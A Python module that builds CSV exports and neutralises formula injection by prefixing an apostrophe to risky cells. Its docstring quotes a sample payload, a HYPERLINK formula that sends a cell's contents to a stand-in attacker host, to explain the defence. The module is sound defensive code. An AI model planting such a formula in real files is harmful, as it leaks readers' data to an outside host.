"""CSV files we hand out: every cell neutralised against formula injection, one writer for all exports.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (a tab or a carriage
return before them is skipped by some), so a plan, task, organisation or note named
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would run in the reader's spreadsheet. Following OWASP's
advice, such a cell is prefixed with an apostrophe, which spreadsheets show as text; every column of every
row goes through it, headers included.
"""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import Iterable, Sequence

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The Content-Type of every CSV download, its charset said once.
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def neutralise(cell: object) -> str:
    """``cell`` as text, with an apostrophe before it when a spreadsheet would read it as a formula."""
    text = "" if cell is None else str(cell)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """``rows`` as French Excel opens them: UTF-8 with a byte-order mark, ``;`` between values, CRLF lines,
    every cell neutralised."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return codecs.BOM_UTF8 + buffer.getvalue().encode("utf-8")
